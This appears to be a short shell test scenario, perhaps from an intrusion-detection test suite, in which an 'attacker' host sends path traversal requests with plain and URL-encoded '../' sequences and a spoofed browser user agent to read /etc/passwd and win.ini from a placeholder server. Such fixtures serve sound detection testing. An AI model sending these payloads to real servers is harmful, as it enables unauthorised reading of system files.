# Path traversal, plain and encoded, towards files of the system.
# packages: curl nginx-light
web=(curl -s --path-as-is -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" "http://$SERVER/app/tim?q=../../../../etc/passwd"
from attacker "${web[@]}" "http://$SERVER/app/..%2f..%2f..%2f..%2fetc/passwd"
from attacker "${web[@]}" "http://$SERVER/app/tim?q=..%5c..%5c..%5cwindows%5cwin.ini"
